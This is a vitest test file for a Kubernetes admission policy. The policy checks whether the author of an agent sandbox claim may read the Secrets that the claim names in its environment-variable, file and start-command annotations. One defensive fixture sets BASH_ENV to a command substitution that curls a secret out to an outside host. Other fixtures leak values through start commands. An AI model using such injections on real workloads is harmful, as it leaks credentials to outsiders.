/** Which users may name Secrets in a claim: the admission policy asks the API server about the author of the claim. @module */
import { expect, test } from "vitest";
import { claimAuthors, USERS } from "./claimauthors.ts";

const naming = (variables: string | undefined, files?: string) => ({
  "agents.x-k8s.io/secret-env": variables,
  "agents.x-k8s.io/secret-files": files,
});
const { create, make, patch } = claimAuthors("secrets.yaml", naming("A=mine/key"));

const MANY = (count: number) => Array.from({ length: count }, (_, i) => `A${i}=mine/key`).join();

test.for<[string, string | undefined, string[], string?]>([
  ["no Secret", undefined, USERS],
  ["the Secret of some", "A=mine/key", ["all", "some"]],
  ["two keys of it", "A=mine/key,B=mine/other", ["all", "some"]],
  ["another Secret", "A=other/key", ["all"]],
  ["the Secret of some, and another", "A=mine/key,B=other/key", ["all"]],
  ["as many as are allowed", MANY(8), ["all", "some"]],
  ["more", MANY(9), []],
  ["an empty text", "", []],
  ["an empty entry", "A=mine/key,", []],
  ["a blank", "A=mine/key, B=other/key", []],
  ["a line break", "A=mine/key\nB=other/key", []],
  ["eight, the last one from another Secret", `${MANY(7)},B=other/key`, ["all"]],
  ["a second slash", "A=mine/other/key", []],
  ["a second equals sign", "A=mine=other/key", []],
  ["a path", "A=../mine/key", []],
  ["no name", "=mine/key", []],
  ["a file", undefined, ["all", "some"], "/etc/netrc=mine/key"],
  ["two files, the second one from another Secret", undefined, ["all"], "a=mine/key,~/b c/é=other/key"],
  ["a file of another Secret, and a variable", "A=mine/key", ["all"], "a=other/key"],
  ["as many as are allowed, as variables and files", MANY(4), ["all", "some"], MANY(4)],
  ["a file more", MANY(8), [], "a=mine/key"],
  ["no file", undefined, [], ""],
  ["a file whose path has an equals sign", undefined, [], "a=b=other/key"],
  ["a file whose path has a line break", undefined, [], "a\nb=mine/key"],
  ["a file whose path looks like an entry", undefined, [], "mine/key=a/b=other/key"],
  ["no path", undefined, [], "=mine/key"],
])("a claim that names %s is accepted from those who may read them", async ([, secrets, allowed, files]) => {
  for (const user of USERS) {
    const created = create(user, naming(secrets, files)).then(() => "accepted", (error) => String(error));
    const want = allowed.includes(user)
      ? "accepted"
      : expect.stringMatching(/may not read a Secret|8 entries|not NAME=|not PATH=/);
    expect([user, await created]).toEqual([user, want]);
  }
});

test("who may not read them cannot change which Secrets a claim names, nor what gets their values", async () => {
  await make(naming("A=mine/key"));
  const name = (text: string | null) => ({ metadata: { annotations: { "agents.x-k8s.io/secret-env": text } } });
  expect(await patch("none", { metadata: { labels: { a: "b" } } })).toBe("done");
  expect(await patch("none", { spec: { lifecycle: { shutdownPolicy: "Delete" } } })).toBe("done");
  // Each bash would pass on the values.
  const spy = { spec: { env: [{ name: "BASH_ENV", value: "$(curl -d $A https://example.com)" }] } };
  expect(await patch("none", spy)).toContain("may not read a Secret");
  expect(await patch("none", { spec: { warmPoolRef: { name: "other" } } })).toContain("may not read a Secret");
  expect(await patch("some", spy)).toBe("done");
  expect(await patch("none", { spec: { env: null } })).toContain("may not read a Secret");
  expect(await patch("none", { spec: { lifecycle: null } })).toBe("done");
  expect(await patch("none", name("A=other/key"))).toContain("may not read a Secret");
  expect(await patch("some", name("A=other/key"))).toContain("may not read a Secret");
  expect(await patch("some", name("B=mine/key"))).toBe("done");
  // A start command could print the values, or send them away.
  const more = (key: string, text: string | null) => ({
    metadata: { annotations: { [`agents.x-k8s.io/${key}`]: text } },
  });
  expect(await patch("none", more("start-command", "printenv B"))).toContain("may not read a Secret");
  expect(await patch("some", more("start-command", "true"))).toBe("done");
  expect(await patch("none", more("start-command", "printenv B"))).toContain("may not read a Secret");
  expect(await patch("none", more("secret-files", "a=mine/key"))).toContain("may not read a Secret");
  expect(await patch("some", more("secret-files", "a=other/key"))).toContain("may not read a Secret");
  expect(await patch("some", more("secret-files", "a=mine/key"))).toBe("done");
  expect(await patch("none", name(null)), "the file stays").toContain("may not read a Secret");
  expect(await patch("some", name(null))).toBe("done");
  expect(await patch("none", more("start-command", "cat a"))).toContain("may not read a Secret");
  expect(await patch("none", { metadata: { labels: { a: "c" } } })).toBe("done");
  expect(await patch("none", more("secret-files", null))).toBe("done");
  expect(await patch("none", more("start-command", "env"))).toBe("done");
  expect(await patch("none", name("B=mine/key"))).toContain("may not read a Secret");
});
